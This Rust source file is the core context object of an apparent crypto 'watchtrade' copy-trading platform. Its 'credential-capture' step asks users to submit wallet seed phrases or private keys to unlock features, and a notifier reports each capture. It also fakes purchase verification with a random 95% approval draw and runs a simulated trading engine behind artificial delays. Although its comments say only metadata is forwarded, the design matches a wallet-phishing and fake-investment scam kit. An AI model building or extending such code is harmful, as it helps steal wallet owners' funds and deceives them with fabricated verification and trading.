//! The application context.
//!
//! `Platform` owns the ledger, the session store, the access gate, the flow
//! tracker, the simulation engine, and the notifier. There are no global
//! singletons: one explicit object, created at startup, torn down by
//! `logout`.

use std::sync::Arc;
use std::thread;
use std::time::Duration as StdDuration;

use chrono::{DateTime, Utc};
use rand::Rng;
use uuid::Uuid;

use crate::capture::{CaptureLog, CapturePayload, Notifier};
use crate::engine::{EngineConfig, SimulationEngine};
use crate::error::{GateError, PlatformResult, ValidationError};
use crate::flow::{FlowStateTracker, Milestone};
use crate::gate::{AccessGate, AssetKind, PurchaseRecord};
use crate::session::{SessionIdentity, SessionStore};
use crate::storage::StorageLedger;
use crate::validator;

/// Logical entry points of the application shell.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum View {
    /// Default landing view; also the fallback for unknown targets.
    Dashboard,
    /// Credential-capture (wallet connect) step.
    ValueTransfer,
    /// Purchase-verification step.
    Verification,
    /// The gated copy-trading feature.
    GatedFeature,
}

impl View {
    /// Parses an entry-point name. Unknown names fall back to the dashboard.
    #[must_use]
    pub fn parse(name: &str) -> Self {
        match name {
            "valueTransfer" => Self::ValueTransfer,
            "verification" => Self::Verification,
            "gatedFeature" => Self::GatedFeature,
            _ => Self::Dashboard,
        }
    }

    /// Canonical entry-point name.
    #[must_use]
    pub const fn as_str(self) -> &'static str {
        match self {
            Self::Dashboard => "dashboard",
            Self::ValueTransfer => "valueTransfer",
            Self::Verification => "verification",
            Self::GatedFeature => "gatedFeature",
        }
    }
}

/// Auxiliary feature tags surfaced on the dashboard.
///
/// One static table iterated for lookup — handlers are dispatched from
/// here, never synthesized per service.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[allow(missing_docs)]
pub enum ServiceTag {
    TokenClaim,
    Staking,
    Swap,
    Liquidity,
    Bridge,
    Farming,
    Analytics,
    Vault,
}

impl ServiceTag {
    /// Every dashboard service, in display order.
    pub const ALL: [Self; 8] = [
        Self::TokenClaim,
        Self::Staking,
        Self::Swap,
        Self::Liquidity,
        Self::Bridge,
        Self::Farming,
        Self::Analytics,
        Self::Vault,
    ];

    /// Display label.
    #[must_use]
    pub const fn label(self) -> &'static str {
        match self {
            Self::TokenClaim => "TokenClaim",
            Self::Staking => "Staking",
            Self::Swap => "Swap",
            Self::Liquidity => "Liquidity",
            Self::Bridge => "Bridge",
            Self::Farming => "Farming",
            Self::Analytics => "Analytics",
            Self::Vault => "Vault",
        }
    }

    /// Looks a service up by label, iterating the table.
    #[must_use]
    pub fn find(label: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|tag| tag.label() == label)
    }
}

/// Wallet options offered at the credential-capture step.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[allow(missing_docs)]
pub enum WalletKind {
    Phantom,
    Solflare,
    Metamask,
    Trust,
    Other,
}

impl WalletKind {
    /// Display label.
    #[must_use]
    pub const fn label(self) -> &'static str {
        match self {
            Self::Phantom => "Phantom",
            Self::Solflare => "Solflare",
            Self::Metamask => "MetaMask",
            Self::Trust => "Trust Wallet",
            Self::Other => "Other Wallet",
        }
    }
}

/// Which credential shape the capture step received.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum CredentialKind {
    /// A 12-word pass phrase.
    Phrase,
    /// A 64-character hex private key.
    PrivateKey,
}

impl CredentialKind {
    /// Descriptive payload label.
    #[must_use]
    pub const fn type_label(self) -> &'static str {
        match self {
            Self::Phrase => "12-word pass phrase",
            Self::PrivateKey => "64-character private key",
        }
    }
}

/// Policy for the simulated purchase verification.
#[derive(Debug, Clone, PartialEq)]
pub struct VerifyPolicy {
    /// Probability that a verification draw is approved.
    pub approval_rate: f64,
    /// Minimum accepted USD amount.
    pub min_amount: f64,
}

impl Default for VerifyPolicy {
    fn default() -> Self {
        Self {
            approval_rate: 0.95,
            min_amount: 50.0,
        }
    }
}

/// Artificial latency simulating network/processing delays.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LatencyProfile {
    /// Delay applied to login.
    pub login: StdDuration,
    /// Delay applied to registration.
    pub register: StdDuration,
    /// Delay applied to purchase verification.
    pub verify: StdDuration,
}

impl Default for LatencyProfile {
    fn default() -> Self {
        Self {
            login: StdDuration::from_millis(800),
            register: StdDuration::from_millis(800),
            verify: StdDuration::from_millis(1500),
        }
    }
}

impl LatencyProfile {
    /// No artificial delay; what tests want.
    #[must_use]
    pub const fn none() -> Self {
        Self {
            login: StdDuration::ZERO,
            register: StdDuration::ZERO,
            verify: StdDuration::ZERO,
        }
    }
}

/// Top-level platform configuration.
#[derive(Debug, Clone, PartialEq)]
pub struct PlatformConfig {
    /// Simulation engine tuning.
    pub engine: EngineConfig,
    /// Purchase-verification policy.
    pub verify: VerifyPolicy,
    /// Artificial operation delays.
    pub latency: LatencyProfile,
    /// Label attached to capture payloads.
    pub platform_label: String,
}

impl Default for PlatformConfig {
    fn default() -> Self {
        Self {
            engine: EngineConfig::default(),
            verify: VerifyPolicy::default(),
            latency: LatencyProfile::default(),
            platform_label: "watchtrade".to_string(),
        }
    }
}

/// Result of one navigation: the resolved view and the gate decision,
/// recomputed on every call.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Navigation {
    /// The resolved view.
    pub view: View,
    /// The gate decision at navigation time.
    pub feature_unlocked: bool,
}

/// Result of one credential submission.
#[derive(Debug, Clone, PartialEq)]
pub struct CaptureReceipt {
    /// The metadata that was logged and (possibly) delivered.
    pub payload: CapturePayload,
    /// Whether the notifier accepted delivery. `false` means the payload
    /// was retained only by the local capture log.
    pub delivered: bool,
}

/// Owns every stateful component of the platform core.
pub struct Platform {
    config: PlatformConfig,
    session: SessionStore,
    gate: AccessGate,
    flow: FlowStateTracker,
    engine: SimulationEngine,
    notifier: Box<dyn Notifier>,
    capture_log: CaptureLog,
    current_view: View,
}

impl Platform {
    /// Builds the context over a ledger, restoring persisted gate and flow
    /// state (fail closed) but not the session — call
    /// [`Platform::restore_session`] for that.
    ///
    /// # Errors
    ///
    /// Config validation and ledger backend errors.
    pub fn new(
        ledger: Arc<dyn StorageLedger>,
        notifier: Box<dyn Notifier>,
        config: PlatformConfig,
    ) -> PlatformResult<Self> {
        let session = SessionStore::new(Arc::clone(&ledger))?;
        let mut gate = AccessGate::new(Arc::clone(&ledger));
        gate.restore()?;
        let flow = FlowStateTracker::new(Arc::clone(&ledger))?;
        let engine = SimulationEngine::new(config.engine.clone())?;
        let capture_log = CaptureLog::new(ledger);

        Ok(Self {
            config,
            session,
            gate,
            flow,
            engine,
            notifier,
            capture_log,
            current_view: View::Dashboard,
        })
    }

    /// Registers a new account. Applies the configured registration delay.
    ///
    /// # Errors
    ///
    /// See [`SessionStore::register`].
    pub fn register(
        &mut self,
        name: &str,
        email: &str,
        password: &str,
    ) -> PlatformResult<SessionIdentity> {
        pause(self.config.latency.register);
        self.session.register(name, email, password)
    }

    /// Logs in. Applies the configured login delay.
    ///
    /// # Errors
    ///
    /// See [`SessionStore::login`].
    pub fn login(
        &mut self,
        email: &str,
        password: &str,
        remember_me: bool,
    ) -> PlatformResult<SessionIdentity> {
        pause(self.config.latency.login);
        self.session.login(email, password, remember_me)
    }

    /// Restores a persisted session at startup (durable wins).
    ///
    /// # Errors
    ///
    /// Ledger backend errors.
    pub fn restore_session(&mut self) -> PlatformResult<Option<SessionIdentity>> {
        self.session.restore_session()
    }

    /// The single leak-proof teardown: halts the engine (cancelling its
    /// timer), resets the gate and flow state, clears the session, and
    /// returns to the dashboard. Nothing owned by the session survives.
    ///
    /// # Errors
    ///
    /// Ledger backend errors.
    pub fn logout(&mut self) -> PlatformResult<()> {
        self.engine.halt();
        self.gate.reset()?;
        self.flow.reset()?;
        self.session.logout()?;
        self.current_view = View::Dashboard;
        Ok(())
    }

    /// Navigates to an entry point by name; unknown names fall back to the
    /// dashboard. The gate decision is recomputed on every call; entering
    /// the gated view while unlocked records the advisory milestone.
    ///
    /// # Errors
    ///
    /// Ledger backend errors.
    pub fn navigate(&mut self, target: &str) -> PlatformResult<Navigation> {
        let view = View::parse(target);
        self.current_view = view;
        let feature_unlocked = self.gate.is_feature_unlocked();
        if view == View::GatedFeature && feature_unlocked {
            self.flow.record(Milestone::WatchTradeUnlocked)?;
        }
        Ok(Navigation {
            view,
            feature_unlocked,
        })
    }

    /// The view the platform is currently on.
    #[must_use]
    pub const fn current_view(&self) -> View {
        self.current_view
    }

    /// Prompt for a dashboard service, dispatched from the static table.
    #[must_use]
    pub fn service_prompt(&self, tag: ServiceTag) -> String {
        if self.gate.is_feature_unlocked() {
            format!("{}: ready", tag.label())
        } else {
            format!("{}: Connect wallet to access", tag.label())
        }
    }

    /// Submits a captured credential.
    ///
    /// The format is revalidated here regardless of any live check the
    /// caller ran. The payload (metadata only, never the credential text)
    /// goes to the notifier and is always appended to the local capture
    /// log, so a delivery failure is recovered locally and never fatal.
    /// On success the identity-linked flag is set and the milestone
    /// recorded.
    ///
    /// # Errors
    ///
    /// `ValidationError::InvalidPhrase` / `InvalidPrivateKey` with no
    /// state change; ledger backend errors.
    pub fn submit_credentials(
        &mut self,
        wallet: WalletKind,
        kind: CredentialKind,
        input: &str,
    ) -> PlatformResult<CaptureReceipt> {
        let valid = match kind {
            CredentialKind::Phrase => validator::is_valid_phrase(input),
            CredentialKind::PrivateKey => validator::is_valid_private_key(input),
        };
        if !valid {
            return Err(match kind {
                CredentialKind::Phrase => ValidationError::InvalidPhrase,
                CredentialKind::PrivateKey => ValidationError::InvalidPrivateKey,
            }
            .into());
        }

        let payload = CapturePayload {
            kind: "wallet_link".to_string(),
            wallet_type: wallet.label().to_string(),
            credential_type: kind.type_label().to_string(),
            at: Utc::now(),
            platform_label: self.config.platform_label.clone(),
        };

        let delivered = self.notifier.notify(&payload).is_ok();
        self.capture_log.append(&payload)?;

        self.gate.mark_identity_linked()?;
        self.flow.record(Milestone::WalletConnected)?;

        Ok(CaptureReceipt { payload, delivered })
    }

    /// Runs the simulated purchase verification.
    ///
    /// Applies the configured verification delay, enforces the policy
    /// minimum, and draws approval against the policy rate. A refusal
    /// mutates nothing. Approval creates an immutable purchase record
    /// (superseding any earlier one), marks value-verified, and records
    /// the milestone.
    ///
    /// # Errors
    ///
    /// `ValidationError::AmountBelowMinimum`,
    /// `GateError::VerificationRefused`, ledger backend errors.
    pub fn verify_purchase<R: Rng + ?Sized>(
        &mut self,
        amount: f64,
        asset: AssetKind,
        rng: &mut R,
    ) -> PlatformResult<PurchaseRecord> {
        pause(self.config.latency.verify);
        if amount < self.config.verify.min_amount {
            return Err(ValidationError::AmountBelowMinimum {
                minimum: self.config.verify.min_amount,
                actual: amount,
            }
            .into());
        }
        if rng.random::<f64>() >= self.config.verify.approval_rate {
            return Err(GateError::VerificationRefused.into());
        }

        let record = PurchaseRecord {
            amount,
            asset,
            verified_at: Utc::now(),
            reference_id: reference_id(rng),
        };
        self.gate.mark_value_verified(record.clone())?;
        self.flow.record(Milestone::Verified)?;
        Ok(record)
    }

    /// Starts (or restarts) the simulation; rejected while the gate is
    /// locked.
    ///
    /// # Errors
    ///
    /// `GateError::FeatureLocked`.
    pub fn start_simulation(&mut self, now: DateTime<Utc>) -> PlatformResult<()> {
        self.engine.start(&self.gate, now)
    }

    /// Drives the simulation timer. Returns whether a tick executed.
    pub fn poll_simulation<R: Rng + ?Sized>(&mut self, now: DateTime<Utc>, rng: &mut R) -> bool {
        self.engine.poll(now, rng)
    }

    /// Stops the running simulation.
    ///
    /// # Errors
    ///
    /// `EngineError::NotRunning`.
    pub fn stop_simulation(&mut self, now: DateTime<Utc>) -> PlatformResult<()> {
        self.engine.stop(now)
    }

    /// Session store (registry + identity).
    #[must_use]
    pub const fn session(&self) -> &SessionStore {
        &self.session
    }

    /// Access gate (flags + purchase record).
    #[must_use]
    pub const fn gate(&self) -> &AccessGate {
        &self.gate
    }

    /// Advisory flow tracker.
    #[must_use]
    pub const fn flow(&self) -> &FlowStateTracker {
        &self.flow
    }

    /// Simulation engine.
    #[must_use]
    pub const fn engine(&self) -> &SimulationEngine {
        &self.engine
    }

    /// Local capture log.
    #[must_use]
    pub const fn capture_log(&self) -> &CaptureLog {
        &self.capture_log
    }
}

fn pause(duration: StdDuration) {
    if !duration.is_zero() {
        thread::sleep(duration);
    }
}

// Reference ids are uuid-derived; the uuid bits come from the caller's rng.
fn reference_id<R: Rng + ?Sized>(rng: &mut R) -> String {
    let id = Uuid::from_u128(rng.random::<u128>());
    let hex = id.simple().to_string().to_uppercase();
    format!("SOL{}", &hex[..9])
}
